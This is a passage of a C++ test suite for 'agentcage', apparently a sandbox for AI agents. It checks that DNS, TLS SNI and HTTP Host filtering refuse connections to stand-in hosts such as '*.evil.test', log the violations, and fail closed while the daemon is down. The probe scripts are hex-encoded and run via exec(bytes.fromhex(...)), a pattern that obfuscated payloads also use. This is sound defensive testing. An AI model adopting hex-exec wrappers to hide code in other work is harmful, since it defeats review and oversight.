  // Hex through the shell: no quoting to get wrong.
  std::string hex;
  for (unsigned char c : script) hex += fmt::format("{:02x}", c);
  auto r = run_script("/usr/bin/python3 -c \"exec(bytes.fromhex('" + hex + "'))\"");
  auto out = testing::lines(r.out);
  ASSERT_EQ(out.size(), 8u) << r.out << r.err << read_all(dir_ + "/daemon.log");
  EXPECT_EQ(out[0], "tls " + n + " " + host_ + " tls-ok " + n) << r.err;
  EXPECT_EQ(out[1], "tls " + tag() + ".evil.test ConnectionResetError") << "a name off the list, on an allowed address";
  EXPECT_EQ(out[2], "tls None ConnectionResetError") << "no SNI";
  EXPECT_EQ(out[3], "tls " + tag() + ".ok.test ConnectionResetError") << "an allowed name, but not on port 443";
  EXPECT_EQ(out[4], "http " + n + " http-ok " + n) << r.err;
  EXPECT_EQ(out[5], "http " + tag() + ".evil.test ConnectionResetError");
  EXPECT_EQ(out[6], "http " + n + ":80 http-ok " + n + ":80") << "a Host with its port";
  EXPECT_EQ(out[7], "pipelined 1") << "a second request on an allowed connection asked for another Host unread";
  // The servers saw the allowed ones only.
  std::string served;
  wait_until([&] { return (served = read_all(names_log_)).find("http " + n + ":80") != std::string::npos; },
             std::chrono::seconds(5));
  EXPECT_NE(served.find("tls " + n + "\n"), std::string::npos) << served;
  EXPECT_EQ(served.find(tag() + ".evil.test"), std::string::npos) << served;
  EXPECT_EQ(served.find(tag() + ".ok.test"), std::string::npos) << served;
  EXPECT_EQ(served.find(tag() + ".second.evil"), std::string::npos) << served;
  EXPECT_EQ(served.find("tls -"), std::string::npos) << served;
  // Each refusal is a violation naming the mechanism, the name and the address.
  const std::string evil = tag() + ".evil.test";
  EXPECT_NE(r.err.find("deny connect " + evil + " (" + host_ + ":443)/tcp, by TLS SNI: refused: no entry for " + evil +
                       " (tls-sni, network.domains: no entry for"),
            std::string::npos)
      << r.err;
  EXPECT_NE(r.err.find("deny connect (no name) (" + host_ + ":443)/tcp, by TLS SNI: refused: no SNI (tls-sni"),
            std::string::npos)
      << r.err;
  EXPECT_NE(r.err.find("refused: *.ok.test does not allow TCP port 443 (tls-sni, network.domains: *.ok.test allow)"),
            std::string::npos)
      << r.err;
  EXPECT_NE(r.err.find("deny connect " + tag() + ".evil.test (" + host_ + ":80)/tcp, by HTTP Host: refused: no entry"),
            std::string::npos)
      << r.err;
  std::string v;
  EXPECT_TRUE(wait_until(
      [&] {
        v = events("--violations");
        return v.find("\"wire\":\"http-host\"") != std::string::npos && v.find(evil) != std::string::npos;
      },
      std::chrono::seconds(5)))
      << v;
  EXPECT_NE(v.find("\"mechanism\":\"tls-sni\""), std::string::npos) << v;
  // The allowed ones are records naming the name they asked for on the wire.
  auto net = events("--kind=net");
  EXPECT_NE(net.find("\"name\":\"" + n + "\",\"name_checked\":true,\"wire\":\"tls-sni\""), std::string::npos) << net;
}

// A profile whose names cannot be served is refused before anything runs.
TEST_P(Dns, DomainsWithoutAResolverOrWithNetworkAllowedAreRefused) {
  std::string bad = dir_ + "/profiles/dnsbad" + tag() + ".yaml";
  std::ofstream(bad) << "name: dnsbad\nactions:\n  network: allow\nnetwork:\n  dns: [" << kUpstream
                     << "]\n  domains:\n    - name: x.ok.test\n";
  chmod(bad.c_str(), 0644);
  std::vector<std::string> cmd;
  if (GetParam() == Path::in_process)
    cmd = {AGENTCAGE_BIN, "run", "--no-daemon", "--no-store", "--profile", bad, "--", "/bin/true"};
  else
    cmd = {"/usr/bin/env", "AGENTCAGE_PROFILE_PATH=" + dir_ + "/profiles", AGENTCAGE_BIN, "run", "--socket", sock_,
           "--profile", "dnsbad" + tag(), "--", "/bin/true"};
  auto r = run(GetParam() == Path::daemon_nobody ? testing::as_nobody(cmd) : cmd);
  EXPECT_NE(r.status, 0);
  EXPECT_NE(r.err.find("network.domains needs actions.network to refuse"), std::string::npos) << r.err;
}

INSTANTIATE_TEST_SUITE_P(Paths, Dns, ::testing::Values(Path::in_process, Path::daemon_root, Path::daemon_nobody),
                         [](const auto& i) {
                           return i.param == Path::in_process    ? std::string("InProcess")
                                  : i.param == Path::daemon_root ? std::string("DaemonAsRoot")
                                                                 : std::string("DaemonAsNobody");
                         });

// The resolver lives in agentcaged: killed, the sandbox's queries go unanswered (nothing
// resolves, nothing new connects); restarted, the re-adopted sandbox has a resolver
// again, with the same rules.
class DnsRestart : public DnsScene, public ::testing::Test {
 protected:
  void SetUp() override {
    if (geteuid() != 0) GTEST_SKIP() << "needs root: agentcage loads BPF programs";
    set_up_scene();
    sock_ = dir_ + "/agentcage.sock";
    start_daemon();
  }
  void TearDown() override {
    if (agent_ > 0 && testing::pid_alive(agent_)) kill(agent_, SIGKILL);
    if (agent_ > 0) testing::wait_status(agent_);
    if (daemon_ > 0) {
      kill(daemon_, SIGTERM);
      testing::wait_status(daemon_);
    }
    testing::remove_daemon_pins(dir_);
    tear_down_scene();
  }
  void start_daemon() {
    unlink(sock_.c_str());
    daemon_ = testing::start(daemon_argv(sock_, dir_), dir_ + "/daemon" + std::to_string(++starts_) + ".log");
    ASSERT_TRUE(wait_until([&] { return access(sock_.c_str(), F_OK) == 0; }, std::chrono::seconds(10)));
  }
  std::string logs() {
    std::string all;
    for (int i = 1; i <= starts_; ++i) all += read_all(dir_ + "/daemon" + std::to_string(i) + ".log");
    return all;
  }
  int count(const std::string& needle) {
    int n = 0;
    for (const auto& l : testing::lines(read_all(dir_ + "/agent.out"))) n += l.find(needle) != std::string::npos;
    return n;
  }
  std::string sock_;
  pid_t daemon_ = -1, agent_ = -1;
  int starts_ = 0;
};

TEST_F(DnsRestart, AKilledDaemonAnswersNothingAndARestartServesTheSandboxAgain) {
  // As nobody: each turn asks for a new allowed name (one of the profile's, one the command
  // line added: recorded with the sandbox, so re-adopted too) and a new refused one.
  std::string loop = "i=0; while :; do i=$((i+1)); " + probe("dns udp 203.0.113.5 r$i.ok.test") +
                     probe("dns udp 203.0.113.5 f$i.flag.test") + probe("dns udp 203.0.113.5 x$i.evil.test") +
                     "sleep 0.1; done";
  std::vector<std::string> cmd{"/usr/bin/env", "AGENTCAGE_PROFILE_PATH=" + dir_ + "/profiles", AGENTCAGE_BIN, "run",
                               "--socket", sock_, "--profile", "dnstest", "--allow-domain", "*.flag.test",
                               "--", "/bin/sh", "-c", loop};
  agent_ = testing::start(testing::as_nobody(cmd), dir_ + "/agent.out");
  ASSERT_TRUE(wait_until([&] { return count("dns rcode 0") >= 3 && count("dns rcode 5") >= 3; },
                         std::chrono::seconds(20)))
      << read_all(dir_ + "/agent.out") << logs();

  kill(daemon_, SIGKILL);
  EXPECT_EQ(testing::wait_status(daemon_), 128 + SIGKILL);
  daemon_ = -1;
  auto asked_before = resolver_->asked().size();
  auto flagged = [&] {
    int n = 0;
    for (const auto& a : resolver_->asked()) n += a.starts_with("udp:f") && a.ends_with(".flag.test");
    return n;
  };
  int flagged_before = flagged();
  EXPECT_GT(flagged_before, 0) << "the name --allow-domain added was not served";
  int answered = count("dns rcode");
  // Each unanswered query waits out the probe's 5 s receive timeout.
  EXPECT_TRUE(wait_until([&] { return count("recv error") >= 2; }, std::chrono::seconds(20)))
      << read_all(dir_ + "/agent.out");
  EXPECT_EQ(count("dns rcode"), answered) << "answered with no daemon running";
  EXPECT_EQ(resolver_->asked().size(), asked_before) << "a query left the host with no daemon to decide it";

  start_daemon();
  EXPECT_TRUE(wait_until([&] { return count("dns rcode 0") >= 12 && count("dns rcode 5") >= 6; },
                         std::chrono::seconds(30)))
      << read_all(dir_ + "/agent.out") << logs();
  EXPECT_GT(flagged(), flagged_before + 2) << "the name --allow-domain added was not served after the restart";
  for (const auto& n : resolver_->asked()) EXPECT_EQ(n.find("evil"), std::string::npos) << n;
  EXPECT_NE(logs().find("re-adopted"), std::string::npos) << logs();
}

// The name check lives in agentcaged too: with the daemon killed, a connect to a learned
// address on 443 goes nowhere (the kernel still redirects it, to a port nobody serves)
// rather than straight to the server unchecked; the restarted daemon's new check port is
// installed with the re-adopted policy and TLS with an allowed SNI works again.
TEST_F(DnsRestart, TheNameCheckFailsClosedWhileTheDaemonIsDown) {
  const std::string script =
      "import socket, ssl, sys, time\n"
      "ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE\n"
      "ip = None\n"
      "while True:\n"
      "  try: ip = socket.gethostbyname('r.web.test')\n"
      "  except Exception: pass\n"  // the address learned last, whether or not this one resolved
      "  try:\n"
      "    s = socket.create_connection((ip, 443), timeout=3)\n"
      "    t = ctx.wrap_socket(s, server_hostname='r.web.test'); t.sendall(b'x'); t.recv(10); r = 'tls ok'\n"
      "  except Exception as e: r = 'tls ' + type(e).__name__\n"
      "  print(r, flush=True); time.sleep(0.2)\n";
  std::string hex;
  for (unsigned char c : script) hex += fmt::format("{:02x}", c);
  std::vector<std::string> cmd{"/usr/bin/env",
                               "AGENTCAGE_PROFILE_PATH=" + dir_ + "/profiles",
                               AGENTCAGE_BIN,
                               "run",
                               "--socket",
                               sock_,
                               "--profile",
                               "dnstest",
                               "--",
                               "/usr/bin/python3",
                               "-c",
                               "exec(bytes.fromhex('" + hex + "'))"};
  agent_ = testing::start(testing::as_nobody(cmd), dir_ + "/agent.out");
  ASSERT_TRUE(wait_until([&] { return count("tls ok") >= 3; }, std::chrono::seconds(20)))
      << read_all(dir_ + "/agent.out") << logs();
  auto served = [&] {
    int n = 0;
    for (const auto& l : testing::lines(read_all(names_log_))) n += l == "tls r.web.test";
    return n;
  };

  kill(daemon_, SIGKILL);
  EXPECT_EQ(testing::wait_status(daemon_), 128 + SIGKILL);
  daemon_ = -1;
  std::this_thread::sleep_for(std::chrono::milliseconds(500));  // one in flight may finish
  int ok_before = count("tls ok"), served_before = served();
  int failed_before = static_cast<int>(testing::lines(read_all(dir_ + "/agent.out")).size()) - ok_before;
  EXPECT_TRUE(wait_until(
      [&] {
        return static_cast<int>(testing::lines(read_all(dir_ + "/agent.out")).size()) - count("tls ok") >=
               failed_before + 3;
      },
      std::chrono::seconds(30)))
      << read_all(dir_ + "/agent.out");
  EXPECT_EQ(count("tls ok"), ok_before) << "TLS got through with no daemon to check the name";
  EXPECT_GE(count("tls ConnectionRefusedError"), 3) << "the connect did not go to the (dead) name check"
                                                    << read_all(dir_ + "/agent.out");
  EXPECT_EQ(served(), served_before) << "a connection reached the server unchecked";

  start_daemon();
  EXPECT_TRUE(wait_until([&] { return count("tls ok") >= ok_before + 3; }, std::chrono::seconds(30)))
      << read_all(dir_ + "/agent.out") << logs();
  EXPECT_GT(served(), served_before);
}

}  // namespace
}  // namespace agentcage
